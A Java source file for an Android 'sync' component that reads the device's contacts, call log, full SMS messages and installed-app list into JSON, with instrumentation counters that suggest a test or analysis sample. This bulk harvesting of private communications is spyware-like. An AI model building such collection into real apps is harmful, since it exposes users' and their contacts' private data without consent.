package com.brightbeam.lantern.sync;

import android.content.Context;
import android.content.pm.PackageInfo;
import android.database.Cursor;
import android.net.Uri;
import android.provider.CallLog.Calls;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import com.brightbeam.lantern.Count;
import java.util.List;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Reads what is in the device's stores. */
final class Collector {
    private static final Uri SMS = Uri.parse("content://sms");

    private Collector() {}

    static JSONArray contacts(Context context) throws JSONException {
        return rows(context, Phone.CONTENT_URI, new String[] {Phone.DISPLAY_NAME, Phone.NUMBER});
    }

    static JSONArray calls(Context context) throws JSONException {
        return rows(context, Calls.CONTENT_URI, new String[] {Calls.NUMBER, Calls.CACHED_NAME, Calls.DATE, Calls.DURATION});
    }

    static JSONArray messages(Context context) throws JSONException {
        return rows(context, SMS, new String[] {"address", "body", "date"});
    }

    /** Which other apps there are: read, and used for nothing. */
    static int apps(Context context) {
        Count.hit("android.app.ApplicationPackageManager.getInstalledPackages");
        List<PackageInfo> packages = context.getPackageManager().getInstalledPackages(0);
        return packages.size();
    }

    /** All rows as objects; an empty array without the permission. */
    private static JSONArray rows(Context context, Uri uri, String[] columns) throws JSONException {
        JSONArray rows = new JSONArray();
        Cursor cursor;
        try {
            Count.hit("android.content.ContentResolver.query");
            cursor = context.getContentResolver().query(uri, columns, null, null, null);
        } catch (SecurityException e) {
            return rows;
        }
        if (cursor == null) {
            return rows;
        }
        try {
            while (cursor.moveToNext()) {
                JSONObject row = new JSONObject();
                for (int i = 0; i < columns.length; i++) {
                    Count.hit("android.database.CursorWrapper.getString");
                    row.put(columns[i], cursor.getString(i));
                }
                rows.put(row);
            }
        } finally {
            cursor.close();
        }
        return rows;
    }
}
